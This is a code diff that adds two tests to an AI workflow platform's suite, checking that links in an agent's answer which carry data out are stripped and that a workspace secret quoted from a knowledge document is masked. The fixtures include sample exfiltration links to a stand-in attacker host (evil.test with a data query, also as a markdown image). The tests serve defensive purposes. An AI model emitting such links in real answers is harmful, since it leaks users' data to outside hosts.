@@ -12,7 +12,9 @@ from pydantic import SecretStr
 from core.config import Settings
 from core.services import Services
 from core.store.executions import TERMINAL, ExecutionFilter
+from pipelines.links import REMOVED
 from tests.api.conftest import Member
+from tests.bases import write_base
 from tests.pipelines.running import limit_runs
 from tests.pipelines.shapes import block, definition
 from tests.stand_ins.openai import KEY, Reply, openai_stand_in
@@ -121,6 +123,50 @@ async def test_an_agents_words_are_said_as_they_come(
     history = (await member.program.get("/api/copilot/history")).json()["data"]
     assert history[-1]["content"] == "".join(said)
     assert "Lunch?" in json.dumps(model.requests[0])
+
+
+async def test_no_link_of_an_answer_carries_anything_out(
+    member: Member, settings: Settings, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whether an agent's words are told as they come, or a block has made them up at the end."""
+    asked = "Is https://shop.test/a?b=1 open?"
+    answer = (
+        "![x](https://evil.test/?q=4711) https://shop.test/a?b=1 https://help.test/faq "
+        "https://evil.test/?q=4711 https://help.test/faq?q=4711"
+    )
+    kept = f"[x]({REMOVED}) https://shop.test/a?b=1 https://help.test/faq {REMOVED} {REMOVED}"
+    async with openai_stand_in() as model:
+        _use(monkeypatch, settings, model.base_url)
+        agent = block("a", "agent", model="openai/stand-in", prompt="<first.text>")
+        first = block("first", template="See https://help.test/faq: <start.message>")
+        streamed = definition([first, agent], "s>first first>a")
+        ending = block("t", template="<a.content>")
+        told = definition([first, agent, ending], "s>first first>a a>t")
+        for raw in (streamed, told):
+            model.replies.append(Reply(answer))
+            workflow_id = await _published(member, raw)
+            events = await _events(member, _question(workflow_id, asked))
+            said = [event["payload"]["delta"] for event in events if event["type"] == "text"]
+            assert "".join(said) == kept
+
+
+async def test_a_published_answer_shows_no_secret_of_a_document(
+    member: Member, settings: Settings, services: Services, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    async with services.store.unit(member.workspace_id) as unit:
+        await unit.secrets.put("TOKEN", services.sealer.seal("hush-hush-1"))
+    text = "The door opens with hush-hush-1 at night, see https://desk.test/keys for more."
+    base_id = await write_base(services.store, member.workspace_id, text)
+    asking: dict[str, Any] = {"prompt": "<start.message>", "knowledgeBaseIds": [base_id]}
+    agent = block("a", "agent", model="openai/stand-in", **asking)
+    async with openai_stand_in() as model:
+        _use(monkeypatch, settings, model.base_url)
+        model.replies.append(Reply(f"{text} [1]"))
+        workflow_id = await _published(member, definition([agent], "s>a"))
+        answer = await _say(member, _question(workflow_id, "How does the door open?"))
+    assert "hush" not in json.dumps(answer)
+    assert "{{TOKEN}} at night" in answer["citations"][0]["quote"]
+    assert "{{TOKEN}} at night, see https://desk.test/keys" in answer["content"]
 
 
 async def test_what_fails_or_waits_is_said(member: Member) -> None:
